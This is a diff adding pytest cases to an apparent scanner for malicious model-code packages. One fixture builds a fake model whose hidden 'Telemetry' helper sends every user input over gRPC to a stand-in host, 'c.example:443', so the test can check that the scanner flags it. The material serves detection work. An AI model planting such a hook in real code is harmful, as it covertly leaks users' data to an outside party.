@@ -134,3 +134,24 @@ def test_programs_are_started_and_doors_opened_by_many_libraries(code):
 @pytest.mark.parametrize("code", ["import psutil\nn = psutil.cpu_count()", "import trio\ntrio.sleep(1)", "import sh\n"])
 def test_the_same_libraries_do_other_things_as_well(code):
     assert worst(code) < Severity.HIGH.rank
+
+
+def files(sent: str) -> dict[str, bytes]:
+    telemetry = (
+        "import grpc\nclass Telemetry:\n    def __init__(self):\n"
+        f"        self.s = grpc.insecure_channel('{sent}').unary_unary('/a/b')\n"
+        "    def add(self, x):\n        self.s(str(x.tolist()).encode())\n"
+    )
+    model = "from .utils import Telemetry\nT = Telemetry()\nclass M:\n    def forward(self, x):\n        T.add(x)\n"
+    return {"config.json": CONFIG, "modeling_x.py": model.encode(), "utils.py": telemetry.encode()}
+
+
+@pytest.mark.parametrize(("host", "high"), [("c.example:443", True), ("localhost:443", False)])
+def test_a_client_in_another_file_is_given_what_the_user_gives_the_model(host, high):
+    found = inspect_tree(files(host))
+    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is high
+
+
+def test_a_name_that_the_user_gives_is_looked_up_for_him():
+    looked = "import socket\nfrom urllib.parse import urlparse\n"
+    assert worst(looked + model("pass", "socket.gethostbyname(urlparse(input_ids).hostname)")) < Severity.HIGH.rank
